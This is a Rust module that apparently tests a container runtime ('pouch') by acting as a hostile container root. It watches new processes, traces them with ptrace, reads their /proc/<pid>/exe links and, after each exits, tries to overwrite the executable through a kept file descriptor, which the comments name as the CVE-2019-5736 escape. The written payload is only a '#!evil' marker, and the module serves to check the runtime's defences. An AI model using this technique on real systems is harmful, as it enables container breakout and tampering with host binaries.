//! What a container's root may try on a command that is brought in: look into it, trace it, overwrite its program
//!
//! Each process that appears is pouch until it executes the command. From the first moment on its /proc files are
//! opened and it is traced; what works while it still is pouch is a way out, and is said. That the command itself
//! is seen afterwards, and its file overwritten, shows that the watcher is quick enough to matter.

use super::{call, close, in_folder, nr, print};

const AT_FDCWD: usize = -100isize as usize;
const O_PATH: usize = 0o10_000_000;
const SEIZE: usize = 0x4206;
const CONTINUE: usize = 7;
/// __WALL: also what is no child of one's own but traced.
const ALL: usize = 0x4000_0000;

fn there(pid: usize) -> bool {
    call(nr::__NR_kill, [pid, 0, 0, 0, 0]) >= 0
}

/// What its program is called, if it can be seen.
fn program(pid: usize, room: &mut [u8; 64]) -> Option<&[u8]> {
    let mut path = [0; 64];
    in_folder(&[b"/proc/"], pid, b"/exe", &mut path);
    let (at, len) = (room.as_mut_ptr() as usize, room.len());
    let len = call(nr::__NR_readlinkat, [AT_FDCWD, path.as_ptr() as usize, at, len, 0]);
    room.get(..usize::try_from(len).ok()?)
}

fn say(what: &[u8], program: &[u8]) {
    print(what);
    print(program);
    print(b"\n");
}

/// Tries it on each process that comes, one after the other.
pub fn wait_for_prey() -> ! {
    print(b"lurking\n");
    let mut next = 2;
    loop {
        if let Some(pid) = (next..next + 8).find(|pid| there(*pid)) {
            hunt(pid);
            next = pid + 1;
        }
    }
}

fn hunt(pid: usize) {
    let (mut path, mut kept, mut traced, mut known) = ([0; 64], -1, false, 0);
    in_folder(&[b"/proc/"], pid, b"/exe", &mut path);
    while there(pid) {
        let mut room = [0; 64];
        if !traced && call(nr::__NR_ptrace, [SEIZE, pid, 0, 0, 0]) >= 0 {
            traced = true;
            match program(pid, &mut room) {
                Some(own) if !own.starts_with(b"/bin/") => say(b"TRACED ", own),
                // The command by now, or at its end.
                _ => {}
            }
        }
        if let Some(name) = program(pid, &mut room) {
            let command = name.starts_with(b"/bin/");
            if known != 1 + usize::from(command) {
                known = 1 + usize::from(command);
                say(if command { b"saw " } else { b"SAW " }, name);
                close(kept);
                kept = call(nr::__NR_openat, [AT_FDCWD, path.as_ptr() as usize, O_PATH, 0, 0]) as i32;
            }
        }
        if traced {
            // Until it is gone: a tracer that does not wait would hold up whoever does.
            let mut status = 0i32;
            let answer = call(nr::__NR_wait4, [pid, &raw mut status as usize, ALL | 1, 0, 0]);
            if answer > 0 && status & 0xff == 0x7f {
                call(nr::__NR_ptrace, [CONTINUE, pid, 0, 0, 0]);
            }
        }
    }
    // Nobody runs it any more: now a file that can be written is written (CVE-2019-5736).
    in_folder(&[b"/proc/self/fd/"], usize::try_from(kept).unwrap_or(999), b"", &mut path);
    let file = call(nr::__NR_openat, [AT_FDCWD, path.as_ptr() as usize, 1, 0, 0]);
    if file >= 0 {
        let evil = b"#!evil";
        if call(nr::__NR_write, [file as usize, evil.as_ptr() as usize, evil.len(), 0, 0]) > 0 {
            say(
                b"wrote ",
                match known {
                    2 => b"the command",
                    _ => b"POUCH",
                },
            );
        }
        close(file as i32);
    }
    close(kept);
}
